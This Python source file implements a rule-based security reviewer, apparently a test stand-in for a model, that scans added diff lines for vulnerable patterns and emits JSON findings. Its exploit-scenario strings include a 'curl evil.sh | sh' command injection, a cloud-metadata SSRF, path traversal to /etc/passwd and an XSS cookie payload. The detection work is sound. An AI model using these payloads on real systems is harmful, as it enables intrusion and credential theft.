"""A deterministic rule-based "security reviewer" standing in for the model behind the emulator.

It reads the diff in the last user message as ``bot.diff.render_hunk`` prints it — segment
headers ``### path (status)`` followed by hunk lines ``    13 + code`` (new-file number, then
``+`` for an added line) — and reports findings, valid against DESIGN.md §3's schema, for added
lines that match a few well-known vulnerable patterns. Removed and context lines are ignored.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

Script = Callable[[Sequence[Mapping[str, Any]], Mapping[str, Any]], str]

CONFIDENCE = 0.8
_SEGMENT = re.compile(r"^#{2,4}\s+(?P<path>\S.*?)\s+\((?P<status>[^)]*)\)\s*$")
_ADDED = re.compile(r"^\s*(?P<line>\d+) \+ ?(?P<code>.*)$")
_SQL = r"(?i:select|insert|update|delete)\b"
_DIFF_FENCE = re.compile(r'<untrusted-data kind="diff"[^>]*>\n(.*?)</untrusted-data', re.DOTALL)


@dataclass(frozen=True, slots=True)
class Rule:
    """One vulnerable pattern and the finding it produces."""

    cwe: str
    severity: str
    title: str
    pattern: re.Pattern[str]
    description: str
    exploit: str
    recommendation: str
    fix: Callable[[str], str | None] | None = None


def _rule(
    cwe: str,
    severity: str,
    title: str,
    pattern: str,
    description: str,
    exploit: str,
    recommendation: str,
    fix: Callable[[str], str | None] | None = None,
) -> Rule:
    return Rule(
        cwe, severity, title, re.compile(pattern), description, exploit, recommendation, fix
    )


RULES: tuple[Rule, ...] = (
    _rule(
        "CWE-89",
        "high",
        "SQL query built from untrusted input",
        r"\.execute(?:many)?\(\s*(?:f[\"']|[\"'][^\"']*[\"']\s*(?:%|\+)|.*\.format\()"
        rf"|f[\"']{_SQL}.*\{{|[\"']{_SQL}[^\"']*[\"']\s*(?:%|\+)",
        "The SQL statement is assembled with string formatting instead of bound parameters.",
        "An attacker supplies `' OR '1'='1` (or a stacked query) and reads or alters any row.",
        "Pass values as parameters to `execute()` (placeholders) instead of formatting them in.",
    ),
    _rule(
        "CWE-78",
        "high",
        "OS command injection",
        r"subprocess\.\w+\(.*shell\s*=\s*True|os\.(?:system|popen)\(\s*(?![\"'][^\"'{]*[\"']\s*\))",
        "A shell command line is built from data that can contain shell metacharacters.",
        "An attacker passes `; curl evil.sh | sh` and runs commands as the service user.",
        "Call subprocess with an argument list and `shell=False`; never build a shell string.",
    ),
    _rule(
        "CWE-502",
        "high",
        "Deserialization of untrusted data",
        r"yaml\.load\((?!.*SafeLoader)|pickle\.loads?\(",
        "Untrusted bytes are deserialized with a loader that can construct arbitrary objects.",
        "A crafted payload instantiates objects whose constructors execute attacker code.",
        "Use `yaml.safe_load` or a plain data format such as JSON for untrusted input.",
        fix=lambda s: (
            re.sub(r",\s*Loader\s*=\s*[\w.]+", "", s.replace("yaml.load(", "yaml.safe_load("))
            if "yaml.load(" in s
            else None
        ),
    ),
    _rule(
        "CWE-95",
        "high",
        "Dynamic code evaluation of input",
        r"(?<![\w.])(?:eval|exec)\(\s*(?![\"'])",
        "Data reaches `eval`/`exec`, which runs it as Python code.",
        "An attacker submits `__import__('os').system('id')` and executes arbitrary code.",
        "Parse the data instead (e.g. `ast.literal_eval` or `json.loads`); never evaluate it.",
    ),
    _rule(
        "CWE-295",
        "medium",
        "TLS certificate verification disabled",
        r"verify\s*=\s*False",
        "The HTTPS request does not verify the server certificate.",
        "A network attacker intercepts the connection with any certificate and reads or alters it.",
        "Remove `verify=False`; point `verify` at a CA bundle if a private CA is needed.",
        fix=lambda s: s.replace("verify=False", "verify=True"),
    ),
    _rule(
        "CWE-327",
        "medium",
        "Weak hash used for passwords",
        r"hashlib\.(?:md5|sha1)\((?=.*(?i:passw|pwd|secret))",
        "Passwords are hashed with a fast, broken digest and no work factor.",
        "After a database leak, an attacker cracks most password hashes within hours on a GPU.",
        "Use a password hashing function such as `hashlib.scrypt`, bcrypt or argon2 with a salt.",
    ),
    _rule(
        "CWE-22",
        "high",
        "Path traversal",
        r"(?:\bopen|send_file|send_from_directory|os\.path\.join)\(.*"
        r"(?:request\.|\b(?:args|form|params|filename|user_path|user_file)\b)",
        "A file path is derived from request input without confining it to a base directory.",
        "An attacker requests `../../etc/passwd` and reads files outside the intended directory.",
        "Resolve the path and check it stays under an allowed base directory before opening it.",
    ),
    _rule(
        "CWE-918",
        "medium",
        "Server-side request forgery",
        r"requests\.(?:get|post|put|head|request)\(\s*(?![\"'][^\"'{]*[\"'])",
        "The server fetches a URL that the caller controls.",
        "An attacker points the URL at `http://169.254.169.254/` and reads cloud credentials.",
        "Allow-list the hosts the service may fetch and reject private and link-local addresses.",
    ),
    _rule(
        "CWE-489",
        "low",
        "Debug mode enabled",
        r"^\s*DEBUG\s*=\s*True\b|\.run\(.*debug\s*=\s*True",
        "Debug mode is switched on in code that may be deployed.",
        "Error pages disclose stack traces and settings; some debuggers allow code execution.",
        "Read the debug flag from the environment and default it to off.",
        fix=lambda s: s.replace("True", "False", 1) if re.match(r"^\s*DEBUG\s*=", s) else None,
    ),
    _rule(
        "CWE-79",
        "medium",
        "Cross-site scripting via raw HTML",
        r"\.innerHTML\s*=|dangerouslySetInnerHTML",
        "Markup is inserted into the page without escaping.",
        "An attacker stores `<img src=x onerror=alert(document.cookie)>` and runs script in "
        "other users' browsers.",
        "Assign `textContent` or render through an escaping template instead of raw HTML.",
    ),
)


def added_lines(text: str) -> Iterator[tuple[str, int, str]]:
    """``(path, new line number, code)`` for every added line of a rendered unit."""
    path: str | None = None
    for raw in text.splitlines():
        segment = _SEGMENT.match(raw)
        if segment:
            path = segment["path"]
            continue
        added = _ADDED.match(raw)
        if added and path is not None:
            yield path, int(added["line"]), added["code"]


def finding(rule: Rule, path: str, line: int, code: str) -> dict[str, Any]:
    """A model-output finding (DESIGN.md §3) for ``rule`` firing on ``code``."""
    out: dict[str, Any] = {
        "path": path,
        "line": line,
        "start_line": line,
        "severity": rule.severity,
        "cwe": rule.cwe,
        "title": rule.title,
        "description": rule.description,
        "exploit_scenario": rule.exploit,
        "recommendation": rule.recommendation,
        "confidence": CONFIDENCE,
        "evidence": code.strip(),
    }
    suggestion = rule.fix(code) if rule.fix else None
    if suggestion is not None and suggestion != code:
        out["suggestion"] = suggestion
    return out


def diff_text(text: str) -> str:
    """The fenced diff blocks of a unit message (``bot.prompts``), or all of ``text``.

    Only the diff is reviewed, so lines that merely look like a diff in the PR description
    produce nothing."""
    blocks = _DIFF_FENCE.findall(text)
    return "\n".join(blocks) if blocks else text


def find_issues(text: str) -> list[dict[str, Any]]:
    """Every finding the rules produce for the added lines in ``text``."""
    text = diff_text(text)
    return [
        finding(rule, path, line, code)
        for path, line, code in added_lines(text)
        for rule in RULES
        if code.strip() and rule.pattern.search(code)
    ]


def last_user_message(messages: Sequence[Mapping[str, Any]]) -> str:
    """The content of the last user message (the unit), or ``""``."""
    for message in reversed(messages):
        if message.get("role") == "user" and isinstance(message.get("content"), str):
            return str(message["content"])
    return ""


_PREVIOUS_FENCE = re.compile(
    r'<untrusted-data kind="previous-findings"[^>]*>\n(.*?)</untrusted-data', re.DOTALL
)


def previous_findings(text: str) -> list[dict[str, Any]]:
    """The findings a re-review unit lists as already posted (one JSON object per line)."""
    blocks = _PREVIOUS_FENCE.findall(text)
    return [json.loads(line) for block in blocks for line in block.splitlines() if line.strip()]


def continued(found: list[dict[str, Any]], previous: list[dict[str, Any]]) -> dict[str, Any]:
    """The answer of a model that follows the re-review contract (the policy's "Re-reviews"):
    unchanged findings by fingerprint under ``persisting``, moved ones with their fingerprint,
    the rest of the listed ones under ``fixed``."""
    findings, persisting, seen = [], [], set()
    for f in found:
        match = next(
            (
                p
                for p in previous
                if p["fingerprint"] not in seen and (p["path"], p["cwe"]) == (f["path"], f["cwe"])
            ),
            None,
        )
        if match is None:
            findings.append(f)
            continue
        seen.add(match["fingerprint"])
        if match["line"] == f["line"]:
            persisting.append(match["fingerprint"])
        else:
            findings.append({**f, "fingerprint": match["fingerprint"]})
    fixed = [p["fingerprint"] for p in previous if p["fingerprint"] not in seen]
    answer: dict[str, Any] = {"findings": findings}
    if persisting:
        answer["persisting"] = persisting
    if fixed:
        answer["fixed"] = fixed
    return answer


def review(messages: Sequence[Mapping[str, Any]], request_json: Mapping[str, Any]) -> str:
    """The default emulator script: ``{"findings": [...]}`` for the unit in the user message
    (continuing the findings a re-review lists, when it lists any)."""
    user = last_user_message(messages)
    found = find_issues(user)
    previous = previous_findings(user)
    return json.dumps(continued(found, previous) if previous else {"findings": found})


def scripted(answers: Mapping[str, str | Script] | Script, default: Script = review) -> Script:
    """A script answering from ``answers``: a callable as is, or a mapping whose keys are
    external references (matched exactly) or substrings of the messages (first key found wins);
    values are fixed content or scripts. Anything unmatched goes to ``default``."""
    if callable(answers):
        return answers
    table = dict(answers)

    def script(messages: Sequence[Mapping[str, Any]], request_json: Mapping[str, Any]) -> str:
        ref = request_json.get("external_reference")
        key = ref if isinstance(ref, str) and ref in table else None
        if key is None:
            text = "\n".join(str(m.get("content", "")) for m in messages)
            key = next((k for k in table if k in text), None)
        answer = table[key] if key is not None else default
        return answer if isinstance(answer, str) else answer(messages, request_json)

    return script
